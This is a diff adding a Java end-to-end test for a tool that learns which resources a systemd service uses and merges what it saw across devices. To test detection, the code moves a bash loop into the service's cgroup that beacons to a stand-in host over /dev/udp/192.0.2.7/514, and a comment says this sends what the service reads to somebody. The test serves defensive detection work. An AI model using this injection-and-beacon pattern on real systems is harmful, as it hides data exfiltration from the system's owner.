@@ -1,0 +1,139 @@
+package dev.sandbar.e2e;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.sandbar.vdev.CommandResult;
+import dev.sandbar.vdev.VirtualDevice;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.Test;
+
+/** What a service of a device does, watched by the command, saved, and combined with more. */
+class LearnedFilesTest {
+
+  /** A service that nobody made for Sandbar. */
+  static final String GAUGE =
+      """
+      [Service]
+      ExecStart=/usr/bin/bash -c 'mkdir -p /var/lib/gauge; exec 3>>/var/lib/gauge/log; while :; do read -r load </proc/loadavg; \
+        echo "$load" >/var/lib/gauge/load; sleep 0.2; done'
+      NoNewPrivileges=yes
+      """;
+
+  /** The same, and on this day it sends what it reads to somebody. */
+  private static final String EXTRA = "exec 4<>/dev/udp/192.0.2.7/514; while :; do echo x >&4;";
+
+  private static CommandResult sandbar(VirtualDevice device, String line) {
+    var command =
+        new ArrayList<>(
+            List.of(
+                Path.of(System.getProperty("java.home"), "bin/java").toString(),
+                "-XX:TieredStopAtLevel=1",
+                "-XX:+UseSerialGC",
+                "--enable-native-access=ALL-UNNAMED",
+                "-cp",
+                HardenedAgentTest.classPath().stream()
+                    .map(entry -> "/opt/classes" + entry.toAbsolutePath())
+                    .collect(Collectors.joining(":")),
+                "dev.sandbar.cli.Main"));
+    command.addAll(List.of(line.split(" ")));
+    return device.exec(Duration.ofSeconds(60), command.toArray(String[]::new));
+  }
+
+  private static CommandResult good(VirtualDevice device, String line) {
+    CommandResult result = sandbar(device, line);
+    assertThat(result.exitCode()).as("%s: %s%s", line, result.stdout(), result.stderr()).isZero();
+    return result;
+  }
+
+  private static String bad(VirtualDevice device, String line) {
+    CommandResult result = sandbar(device, line);
+    assertThat(result.exitCode()).as("%s: %s%s", line, result.stdout(), result.stderr()).isOne();
+    return joined(result.stderr());
+  }
+
+  private static String joined(String text) {
+    return text.replaceAll("\\s+", " ");
+  }
+
+  @Test
+  void aServiceIsLearnedAndWhatWasSeenOfItIsCombined() throws Exception {
+    var builder = VirtualDevice.named("learning").withJava();
+    for (Path entry : HardenedAgentTest.classPath()) {
+      builder = builder.bind(entry.toAbsolutePath(), "/opt/classes" + entry.toAbsolutePath());
+    }
+    try (VirtualDevice device = builder.boot()) {
+      learnsWhatAServiceUses(device);
+      combinesWhatTwoDevicesSaw(device);
+      becomesAnApp(device);
+    }
+  }
+
+  private static void learnsWhatAServiceUses(VirtualDevice device) {
+    assertThat(bad(device, "learn gauge")).contains("gauge.service does not run");
+    assertThat(bad(device, "learn Gauge --for 24h")).contains("cannot be the name of an app");
+    assertThat(bad(device, "learn getty@.service")).contains("no service that can be watched");
+    device.write("/etc/systemd/system/gauge.service", GAUGE);
+    device.exec("systemctl", "daemon-reload").orThrow();
+    device.exec("systemctl", "start", "gauge").orThrow();
+    CommandResult learned =
+        good(device, "learn gauge --restart --for 2s --save /root/1.json --device-name pump-1");
+    assertThat(joined(learned.stderr()))
+        .contains(
+            "note: systemInfo: reads /proc/loadavg",
+            "note: state: writes to /var/lib/gauge/load",
+            "an app has directories of its own",
+            "saved what was seen on pump-1 in /root/1.json");
+    assertThat(learned.stdout())
+        .contains("name: gauge", "systemInfo: true", "state: true")
+        .doesNotContain("internet", "jit", "unixSockets", "mode:", "NoNewPrivileges");
+    assertThat(device.exec("stat", "-c", "%a %U", "/root/1.json").stdout().strip())
+        .isEqualTo("600 root");
+    assertThat(bad(device, "learn gauge --save /root/1.json"))
+        .contains("/root/1.json exists already, and is not overwritten");
+    device.write("/root/gauge.yaml", learned.stdout());
+  }
+
+  private static void combinesWhatTwoDevicesSaw(VirtualDevice device) {
+    // What bash does beside the program of the unit file, on a device that somebody is on.
+    device
+        .exec(
+            "sh",
+            "-c",
+            "cat >/root/beside <<'EOF'\necho $$ >/sys/fs/cgroup/system.slice/gauge.service/cgroup.procs\n"
+                + EXTRA
+                + " sleep 0.2; done\nEOF\nip address add 192.0.2.1/24 dev lo;"
+                + " setsid bash /root/beside >/dev/null 2>&1 &")
+        .orThrow();
+    good(device, "learn gauge --for 2s --save /root/2.json --device-name pump-2");
+    CommandResult alone = good(device, "learn --from /root/1.json");
+    assertThat(alone.stdout()).isEqualTo(device.exec("cat", "/root/gauge.yaml").stdout());
+    CommandResult both = good(device, "learn --from /root/2.json /root/1.json --of 20");
+    assertThat(both.stdout())
+        .contains("name: gauge", "systemInfo: true", "state: true", "internet: true");
+    assertThat(joined(both.stderr()))
+        .contains(
+            "gauge.service was seen on 2 of 20 devices, for 2 seconds each",
+            "how it starts was not seen on pump-2",
+            "systemInfo: on both devices: reads /proc/loadavg",
+            "internet: on 1 of 2 devices, pump-2: talks to 192.0.2.7:514");
+    assertThat(good(device, "learn --from /root/1.json /root/2.json --adopt").stdout())
+        .contains("unit: gauge.service", "realtime: false")
+        .doesNotContain("internet: false", "ProtectSystem");
+  }
+
+  private static void becomesAnApp(VirtualDevice device) {
+    device.exec("systemctl", "stop", "gauge").orThrow();
+    assertThat(good(device, "apply /root/gauge.yaml --yes").stdout()).contains("done  gauge");
+    CommandResult app =
+        good(device, "learn sandbar-gauge.service --for 1s -o json --save /root/app.json");
+    assertThat(app.stdout()).contains("\"systemInfo\"");
+    assertThat(bad(device, "learn sandbar-gauge.service --for 1s --adopt"))
+        .contains("is an app already");
+    assertThat(bad(device, "learn --from /root/1.json /root/app.json"))
+        .contains("gauge.service was watched on pump-1, but sandbar-gauge.service on");
+  }
+}
